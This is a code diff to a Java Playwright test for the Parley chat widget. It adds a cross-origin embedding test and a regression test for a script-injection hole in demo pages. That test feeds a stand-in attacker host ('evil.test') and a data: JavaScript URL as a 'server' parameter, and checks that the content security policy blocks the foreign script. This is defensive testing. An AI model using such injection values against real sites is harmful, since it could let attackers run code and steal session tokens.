@@ -6,6 +6,11 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.microsoft.playwright.Page;
 import com.microsoft.playwright.Route;
+import com.sun.net.httpserver.HttpServer;
+import java.io.IOException;
+import java.net.InetSocketAddress;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
@@ -201,13 +206,43 @@ class ChatBoxSnippetTest extends ChatBoxTestBase {
 
     @Test
     void worksWhenTheShopIsOnAnotherOrigin() {
-        // The page comes from localhost, Parley from 127.0.0.1: a different origin, as on a real shop, so the
+        // The page comes from another server (another port), as on a real shop, so the
         // module imports, the stylesheet and /widget/config must pass CORS.
         Page page = context.newPage();
-        List<String> failures = new java.util.ArrayList<>();
+        List<String> failures = new ArrayList<>();
         page.onRequestFailed(r -> failures.add(r.url() + " " + r.failure()));
         page.onConsoleMessage(m -> { if ("error".equals(m.type())) failures.add(m.text()); });
-        page.navigate("http://localhost:" + app.port() + "/demo/shop.html?key=" + app.accountKey() + "&server=" + app.baseUrl());
+        // The shop is a web server of its own (another port: another origin) whose page has the snippet naming Parley.
+        String html = """
+                <!doctype html><html><head><title>Another shop</title><script>
+                var _smartsupp = _smartsupp || {}; _smartsupp.key = '%s';
+                window.smartsupp||(function(d) { var s,c,o=smartsupp=function(){ o._.push(arguments)};o._=[];
+                  s=d.getElementsByTagName('script')[0];c=d.createElement('script');c.async=true;
+                  c.src='%s/chat.js';s.parentNode.insertBefore(c,s); })(document);
+                </script></head><body><h1>Another shop</h1></body></html>""".formatted(app.accountKey(), app.baseUrl());
+        HttpServer shop;
+        try {
+            shop = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
+        } catch (IOException e) {
+            throw new IllegalStateException(e);
+        }
+        shop.createContext("/", exchange -> {
+            byte[] body = html.getBytes(StandardCharsets.UTF_8);
+            exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
+            exchange.sendResponseHeaders(200, body.length);
+            exchange.getResponseBody().write(body);
+            exchange.close();
+        });
+        shop.start();
+        try {
+            page.navigate("http://127.0.0.1:" + shop.getAddress().getPort() + "/shop.html");
+            chatAcrossOrigins(page, failures);
+        } finally {
+            shop.stop(0);
+        }
+    }
+
+    private void chatAcrossOrigins(Page page, List<String> failures) {
         ChatBox box = ChatBox.on(page);
         expect(box.launcher()).isVisible();
         box.launcher().click();
@@ -217,5 +252,42 @@ class ChatBoxSnippetTest extends ChatBoxTestBase {
         assertThat(ChatBox.texts(owner, ChatBox.onlyConversation(owner).path("id").asLong(), "contact"))
                 .containsExactly("Hello across origins");
         assertThat(failures).filteredOn(f -> f.contains("CORS") || f.contains("/widget/") || f.contains("chat.js")).isEmpty();
+    }
+
+    @Test
+    void noAddressCanMakeADemoPageRunScriptFromElsewhere() {
+        // Issue #9, point 1: /demo/shop.html?server=<any URL> loaded <server>/chat.js on Parley's own origin, where a
+        // signed-in owner's session could mint an API token and send it away.
+        Page page = context.newPage();
+        List<String> foreign = new ArrayList<>();
+        page.route("http://evil.test/**", route -> {
+            foreign.add(route.request().url());
+            route.fulfill(new Route.FulfillOptions().setContentType("text/javascript").setBody("window.__pwned = true;"));
+        });
+        page.addInitScript("window.__violations = []; document.addEventListener('securitypolicyviolation',"
+                + " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));");
+        for (String server : List.of("http://evil.test", "data:text/javascript,window.__pwned=true//")) {
+            for (String demo : List.of("shop.html", "hostile.html", "csp.html")) {
+                page.navigate(app.baseUrl() + "/demo/" + demo + "?key=" + app.accountKey() + "&server="
+                        + URLEncoder.encode(server, StandardCharsets.UTF_8));
+                expect(ChatBox.on(page).launcher()).isVisible(); // Parley's own chat box, from Parley
+                assertThat(page.evaluate("() => window.__pwned === true")).as(demo + " " + server).isEqualTo(false);
+            }
+        }
+        // Even script that got into the page some other way cannot fetch code from elsewhere.
+        page.evaluate("() => { const s = document.createElement('script'); s.src = 'http://evil.test/x.js';"
+                + " document.head.appendChild(s); }");
+        ChatBox.eventually("the policy refused the foreign script", 5000, () -> ((List<?>) page.evaluate(
+                "() => window.__violations")).stream().anyMatch(v -> String.valueOf(v).contains("evil.test")));
+        assertThat(foreign).isEmpty();
+        assertThat(page.evaluate("() => window.__pwned === true")).isEqualTo(false);
+
+        // The shop's buttons still work without inline handlers.
+        page.navigate(app.baseUrl() + "/demo/shop.html?key=" + app.accountKey());
+        ChatBox box = ChatBox.on(page);
+        expect(box.launcher()).isVisible();
+        page.locator("[data-ask='Assam Breakfast']").click();
+        expect(box.panel()).isVisible();
+        expect(box.composer()).hasValue("Hi! Is the Assam Breakfast in stock?");
     }
 }
